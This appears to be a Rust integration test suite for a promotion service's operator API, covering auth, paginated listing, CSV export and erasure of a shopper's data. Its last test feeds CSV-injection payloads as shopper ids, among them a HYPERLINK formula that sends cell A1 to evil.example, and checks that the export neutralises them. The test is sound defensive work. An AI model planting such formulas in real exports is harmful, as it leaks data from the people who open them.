//! The operator API over real HTTP: the key is required (and never answered
//! with CORS), a campaign's submissions are listed with filters and a cursor,
//! one is fetched with everything known, a campaign is exported as CSV, and a
//! shopper's data is erased.

use api::SubmissionStatus;
use serde_json::Value;
use tests::{TestApp, fixtures, spawn_app};

const CAMPAIGN: &str = "demo-easypromos";

async fn operator(app: &TestApp, path: &str) -> reqwest::Response {
    app.operator(reqwest::Method::GET, path)
        .send()
        .await
        .unwrap()
}

/// Sends a receipt as `user` and waits for its verdict.
async fn decided(app: &TestApp, user: &str, photo: Vec<u8>) -> String {
    let form = reqwest::multipart::Form::new()
        .text(api::field::USER, user.to_owned())
        .part(
            api::field::PHOTO,
            reqwest::multipart::Part::bytes(photo).file_name("receipt.jpg"),
        );
    let response = app
        .http
        .post(app.url(&format!("/v1/campaigns/{CAMPAIGN}/submissions")))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 202);
    let id = response.json::<api::SubmissionCreated>().await.unwrap().id;
    app.settle(&id).await;
    id
}

#[tokio::test]
async fn the_operator_api_needs_its_key_and_never_answers_a_browser() {
    let app = spawn_app().await;
    let path = format!("/v1/operator/campaigns/{CAMPAIGN}/submissions");
    for key in [None, Some("wrong"), Some("")] {
        let mut request = app
            .http
            .get(app.url(&path))
            .header("Origin", app.address.as_str());
        if let Some(key) = key {
            request = request.bearer_auth(key);
        }
        let response = request.send().await.unwrap();
        assert_eq!(response.status(), 401, "{key:?}");
        assert!(
            response
                .headers()
                .get("access-control-allow-origin")
                .is_none()
        );
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["error"]["code"], "unauthorized");
    }
    let response = app
        .operator(reqwest::Method::GET, &path)
        .header("Origin", app.address.as_str())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert!(
        response
            .headers()
            .get("access-control-allow-origin")
            .is_none()
    );
    assert_eq!(response.headers()["cache-control"], "no-store");
}

#[tokio::test]
async fn submissions_are_listed_by_status_and_user_page_by_page_and_fetched_whole() {
    let app = spawn_app().await;
    let mut accepted = Vec::new();
    for _ in 0..3 {
        accepted.push(decided(&app, "ana", fixtures::receipt_jpeg()).await);
    }
    let refused = decided(&app, "bo", fixtures::red_jpeg()).await;

    let base = format!("/v1/operator/campaigns/{CAMPAIGN}/submissions");
    let page: Value = operator(&app, &format!("{base}?status=rejected"))
        .await
        .json()
        .await
        .unwrap();
    let ids: Vec<&str> = page["submissions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, [refused.as_str()]);

    // Two pages of two, newest first, for one shopper.
    let mut seen = Vec::new();
    let mut cursor = String::new();
    for _ in 0..3 {
        let page: Value = operator(&app, &format!("{base}?user=ana&limit=2{cursor}"))
            .await
            .json()
            .await
            .unwrap();
        for s in page["submissions"].as_array().unwrap() {
            assert_eq!(s["user"], "ana");
            seen.push(s["id"].as_str().unwrap().to_owned());
        }
        match page["next_cursor"].as_str() {
            Some(next) => cursor = format!("&cursor={next}"),
            None => break,
        }
    }
    accepted.reverse();
    assert_eq!(seen, accepted, "every one once, newest first");

    let one: Value = operator(&app, &format!("/v1/operator/submissions/{refused}"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(one["status"], SubmissionStatus::Rejected.as_str());
    assert_eq!(one["provider"], "easypromos");
    assert!(one["provider_ref"].is_string());
    assert_eq!(one["outcome"]["reasons"][0]["code"], "not_receipt");

    let bad = operator(&app, &format!("{base}?from=yesterday")).await;
    assert_eq!(bad.status(), 422);
    let unknown = operator(&app, "/v1/operator/campaigns/nope/submissions").await;
    assert_eq!(unknown.status(), 404);
}

#[tokio::test]
async fn a_campaign_exports_as_csv_and_a_shoppers_data_is_erased() {
    let app = spawn_app().await;
    let ana = decided(&app, "ana", fixtures::receipt_jpeg()).await;
    let bo = decided(&app, "bo", fixtures::receipt_jpeg()).await;

    let response = operator(
        &app,
        &format!("/v1/operator/campaigns/{CAMPAIGN}/export.csv"),
    )
    .await;
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let sheet = Sheet::read(&response.text().await.unwrap());
    assert_eq!(sheet.rows.len(), 2, "{sheet:?}");
    let first = &sheet.rows[0];
    assert_eq!(sheet.cell(first, "id"), &Cell::Text(ana.clone()));
    assert_eq!(sheet.cell(first, "status"), &Cell::Text("accepted".into()));
    assert_eq!(sheet.cell(first, "user"), &Cell::Text("ana".into()));
    assert_eq!(
        sheet.cell(first, "store"),
        &Cell::Text(sandbox::sample::STORE.into())
    );
    assert_eq!(
        sheet.cell(first, "total"),
        &Cell::Number(sandbox::sample::TOTAL)
    );

    let erased = app
        .operator(reqwest::Method::DELETE, "/v1/operator/users/ana")
        .send()
        .await
        .unwrap();
    assert_eq!(erased.status(), 200);
    let erased: Value = erased.json().await.unwrap();
    assert_eq!(erased["submissions"], 1);
    let gone = app
        .http
        .get(app.url(&format!("/v1/submissions/{ana}")))
        .send()
        .await
        .unwrap();
    assert_eq!(gone.status(), 404);
    assert!(
        app.state.db.get(&bo).await.unwrap().is_some(),
        "only that shopper's"
    );
    let sheet = export(&app).await;
    assert_eq!(sheet.rows.len(), 1, "{sheet:?}");
    assert_eq!(sheet.cell(&sheet.rows[0], "user"), &Cell::Text("bo".into()));
}

/// The campaign's export, opened as a spreadsheet would.
async fn export(app: &TestApp) -> Sheet {
    let path = format!("/v1/operator/campaigns/{CAMPAIGN}/export.csv");
    Sheet::read(&operator(app, &path).await.text().await.unwrap())
}

/// A CSV cell as a spreadsheet takes it when it opens the file: a number, a
/// formula (what starts with `=`, `+`, `-` or `@` and is not a number; a
/// leading tab or carriage return is dropped first by some), or text (a
/// leading `'` says "text" and is not shown).
#[derive(Debug, Clone, PartialEq)]
enum Cell {
    Number(f64),
    Formula(String),
    Text(String),
}

impl Cell {
    fn of(field: &str) -> Self {
        if let Ok(number) = field.parse::<f64>() {
            return Self::Number(number);
        }
        let trimmed = field.trim_start_matches(['\t', '\r']);
        if trimmed.starts_with(['=', '+', '-', '@']) {
            return Self::Formula(field.to_owned());
        }
        Self::Text(field.strip_prefix('\'').unwrap_or(field).to_owned())
    }
}

/// An export opened as a spreadsheet opens it: an RFC 4180 reader, each cell
/// taken as [`Cell`] says.
#[derive(Debug)]
struct Sheet {
    header: Vec<String>,
    rows: Vec<Vec<Cell>>,
}

impl Sheet {
    fn read(text: &str) -> Self {
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let header = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        let rows = reader
            .records()
            .map(|r| r.unwrap().iter().map(Cell::of).collect())
            .collect();
        Self { header, rows }
    }

    fn cell<'a>(&self, row: &'a [Cell], column: &str) -> &'a Cell {
        let at = self
            .header
            .iter()
            .position(|h| h == column)
            .unwrap_or_else(|| panic!("no column {column} in {:?}", self.header));
        &row[at]
    }
}

/// A shopper id such as `=HYPERLINK(...)` came out of the export as a live
/// formula (OWASP "CSV injection"), and the export had no duplicate or QR
/// column to audit duplicates with.
#[tokio::test]
async fn a_shopper_id_written_as_a_formula_came_out_of_the_export_live() {
    let app = spawn_app().await;
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+SUM(1+1)",
        "@cmd",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ];
    for user in hostile {
        decided(&app, user, fixtures::receipt_jpeg()).await;
    }
    let sheet = export(&app).await;
    assert_eq!(sheet.rows.len(), hostile.len());
    for column in ["qr", "duplicate_of"] {
        assert!(sheet.header.iter().any(|h| h == column), "{column}");
    }
    for (row, user) in sheet.rows.iter().zip(hostile) {
        assert!(
            !row.iter().any(|cell| matches!(cell, Cell::Formula(_))),
            "{row:?}"
        );
        // The shopper's id reads as it was stored (trimmed), and the total is
        // a number.
        assert_eq!(sheet.cell(row, "user"), &Cell::Text(user.trim().to_owned()));
        assert_eq!(
            sheet.cell(row, "total"),
            &Cell::Number(sandbox::sample::TOTAL)
        );
    }
}
